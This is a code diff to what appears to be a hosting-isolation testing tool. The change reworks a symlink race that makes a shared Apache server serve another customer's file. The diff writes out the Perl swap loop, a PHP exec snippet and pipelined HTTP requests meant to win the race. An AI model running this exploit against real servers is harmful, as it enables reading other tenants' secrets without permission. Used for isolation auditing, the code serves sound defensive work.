@@ -3,16 +3,19 @@
 import base64
 import secrets
 import threading
-import time
 from collections.abc import Iterator
 from concurrent.futures import ThreadPoolExecutor
 
 from lightningspace.attack.field import Field, NotTried
 
-RACERS = 8
+RACERS = 4
+# Over one connection; Apache takes a hundred.
+REQUESTS_AT_ONCE = 100
+RACE_SECONDS = 30
 WHO = "<?php echo exec('id -un');"
 FLIP = (
-    "perl -e '$end = time + {seconds}; chdir qq({directory}) or die; while (time < $end) {{"
+    "perl -e '$end = time + {seconds}; chdir qq({directory}) or die;"
+    " until (-e qq(stop) or time > $end) {{"
     " symlink qq({theirs}), qq(t); rename qq(t), qq(n.txt);"
     " link qq(own.txt), qq(o); rename qq(o), qq(n.txt); }} print qq(done)'"
 )
@@ -221,32 +224,44 @@ def race(field: Field) -> str | None:
 
 
 def _race(field: Field, mode: int) -> tuple[int, int]:
+    """How many answers held the file, of how many."""
     command = FLIP.format(
-        seconds=field.race_seconds,
+        seconds=RACE_SECONDS,
         directory=f"{field.annie.root}/web/race",
         theirs=field.path(mode),
     )
     flipped: list[str] = []
     flipping = threading.Thread(target=lambda: flipped.append(field.run(command)))
     flipping.start()
-    end = time.monotonic() + field.race_seconds
-
-    def ask() -> list[bool]:
-        answers = []
-        while time.monotonic() < end and not any(answers):
-            try:
-                text = field.get(field.annie, "/race/n.txt").text
-            except NotTried:  # mpm_itk cuts the connection when it meets another customer's file
-                text = ""
-            answers.append(field.secrets[mode] in text)
-        return answers
-
+    while flipping.is_alive() and field.get(field.annie, "/race/n.txt").status_code == 404:
+        pass  # it has yet to begin
+    secret, got, asked = field.secrets[mode].encode(), 0, 0
     with ThreadPoolExecutor(RACERS) as racers:
-        answers = [each for asked in racers.map(lambda _: ask(), range(RACERS)) for each in asked]
+        while flipping.is_alive() and asked < field.race_requests and not got:
+            for answers in racers.map(lambda _: _many_answers(field), range(RACERS)):
+                got += answers.count(secret)
+                asked += answers.count(b"HTTP/1.1 ") or 1
+    field.run(f"touch {field.annie.root}/web/race/stop")
     flipping.join()
+    field.run(f"rm -f {field.annie.root}/web/race/stop {field.annie.root}/web/race/n.txt")
     if "done" not in "".join(flipped):
         raise NotTried("the server has no perl for a customer's PHP")
-    return sum(answers), len(answers)
+    return got, asked
+
+
+def _many_answers(field: Field) -> bytes:
+    """All that one connection answers to many requests at once."""
+    request = f"GET /race/n.txt HTTP/1.1\r\nHost: {field.annie.name}\r\n"
+    last = f"{request}Connection: close\r\n\r\n"
+    answers = b""
+    try:
+        with field.connect() as connection:
+            connection.sendall((f"{request}\r\n" * (REQUESTS_AT_ONCE - 1) + last).encode())
+            while part := connection.recv(2**16):
+                answers += part
+    except OSError:  # mpm_itk cuts the connection when it meets another customer's file
+        pass
+    return answers
 
 
 def _first(proofs: Iterator[str | None]) -> str | None:
